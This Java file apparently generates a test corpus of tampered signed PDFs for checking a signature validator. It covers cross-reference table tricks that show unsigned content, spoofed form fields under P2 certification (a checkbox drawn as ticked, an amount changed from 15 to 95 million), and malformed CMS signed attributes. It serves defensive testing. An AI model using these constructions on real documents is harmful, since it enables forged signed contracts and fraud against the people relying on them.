package vn.vanthu.samples.attack;

import java.io.IOException;
import java.util.List;
import vn.vanthu.samples.SampleTrust;

/** Signed PDFs whose later tables lead some readers elsewhere, and what a form may be made to look like. */
final class CrossReferenceAttacks {
    private static final String BOX = "/Type/XObject/Subtype/Form/BBox[0 0 20 20]";
    private static final String TICK = "0 0 20 20 re f";

    private CrossReferenceAttacks() {}

    static List<AttackFile> all() {
        return List.of(
                PdfAttacks.changed(
                        "pdf-two-starts.pdf",
                        "The file ends with the places of two tables, the signed one and another's",
                        trust -> {
                            RawPdf pdf = PdfAttacks.signed(trust);
                            long signed = pdf.lastTable();
                            pdf.stream(4, "", RawPdf.OTHER_TEXT).finish();
                            return pdf.text("startxref\n" + signed + "\nstartxref\n" + pdf.lastTable() + "\n%%EOF\n");
                        }),
                PdfAttacks.changed(
                        "pdf-start-of-signed.pdf",
                        "The file ends with the place of the signed table, behind a revision that readers from the end find",
                        trust -> {
                            RawPdf pdf = PdfAttacks.signed(trust);
                            long signed = pdf.lastTable();
                            pdf.stream(4, "", RawPdf.OTHER_TEXT).finish();
                            return pdf.text("startxref\n" + signed + "\n%%EOF\n");
                        }),
                PdfAttacks.changed(
                        "pdf-table-as-stream.pdf",
                        "A table in a stream, behind one in words, gives the page another content",
                        trust -> ObjectStreams.contentByStream(PdfAttacks.signed(trust))),
                PdfAttacks.changed(
                        "pdf-entry-of-no-kind.pdf",
                        "A table in a stream has an entry of no known kind for the page content, which readers drop",
                        trust -> ObjectStreams.contentOfNoKind(PdfAttacks.signed(trust))),
                PdfAttacks.changed(
                        "pdf-stream-among-signed.pdf",
                        "The table leads to a second page in a stream of objects among the signed bytes, which none named",
                        ObjectStreams::pageAmongSigned),
                PdfAttacks.changed(
                        "pdf-usage-rights.pdf",
                        "The catalogue names rights that a maker of viewers would give",
                        trust -> {
                            RawPdf pdf = PdfAttacks.signed(trust);
                            pdf.catalog = "/Perms<</UR3 11 0 R>>";
                            return pdf.skeleton().finish();
                        }),
                PdfAttacks.changed(
                        "pdf-p2-box-looks-ticked.pdf",
                        "A box that the certification (P2) lets tick stays as it is, and is drawn as if it were ticked",
                        CrossReferenceAttacks::ticked),
                PdfAttacks.changed(
                        "pdf-p2-choices.pdf",
                        "A choice that the certification (P2) lets make shows other words for the same value",
                        CrossReferenceAttacks::renamed),
                new AttackFile(
                        "pdf-fewest-attributes.pdf",
                        "The signed attributes say of what type the content is and what its digest, and no more",
                        List.of("VALID/"),
                        (file, trust) -> by(CmsTricks::fewest, trust).write(file)),
                new AttackFile(
                        "pdf-no-content-type.pdf",
                        "The signed attributes do not say of what type the content is",
                        List.of("INVALID/MALFORMED"),
                        (file, trust) -> by(CmsTricks::noContentType, trust).write(file)),
                new AttackFile(
                        "pdf-digest-twice.pdf",
                        "The signed attributes name two digests, the content's and another",
                        List.of("INVALID/MALFORMED"),
                        (file, trust) -> by(CmsTricks::digestTwice, trust).write(file)),
                new AttackFile(
                        "pdf-value-of-nothing.pdf",
                        "The signature's value is the number one, which is its own power",
                        List.of("INVALID/MALFORMED"),
                        (file, trust) -> by(CmsTricks::valueOne, trust).write(file)));
    }

    private static RawPdf by(CmsMaking cms, SampleTrust trust) throws IOException {
        RawPdf.Making making = new RawPdf.Making();
        making.cms = cms;
        return RawPdf.letter().sign(trust.sxd, making);
    }

    private static String box(String appearance) {
        return "<</Type/Annot/Subtype/Widget/FT/Btn/T(DongY)/V/Off/AS/Off/F 4/P 3 0 R/Rect[80 600 100 620]/AP<</N<</Off "
                + appearance + " 0 R/Yes 8 0 R>>>>>>";
    }

    private static RawPdf ticked(SampleTrust trust) throws IOException {
        RawPdf pdf = new RawPdf();
        pdf.stream(7, BOX, "");
        pdf.stream(8, BOX, TICK);
        pdf.object(9, box("7"));
        pdf.annotations.add("9 0 R");
        pdf.fields.add("9 0 R");
        pdf.body(RawPdf.TEXT).finish();
        return CertifiedPdfAttacks.certified(pdf, trust, 2).object(9, box("8")).finish();
    }

    private static String choice(String words) {
        return "<</Type/Annot/Subtype/Widget/FT/Ch/Ff 131072/T(MucChi)/V(a)/Opt[[(a)(" + words
                + ")][(b)(Khac)]]/DA(/F 12 Tf)/F 4/P 3 0 R/Rect[80 600 300 620]>>";
    }

    private static RawPdf renamed(SampleTrust trust) throws IOException {
        RawPdf pdf = new RawPdf();
        pdf.object(9, choice("15 trieu"));
        pdf.annotations.add("9 0 R");
        pdf.fields.add("9 0 R");
        pdf.body(RawPdf.TEXT).finish();
        return CertifiedPdfAttacks.certified(pdf, trust, 2)
                .object(9, choice("95 trieu"))
                .finish();
    }
}
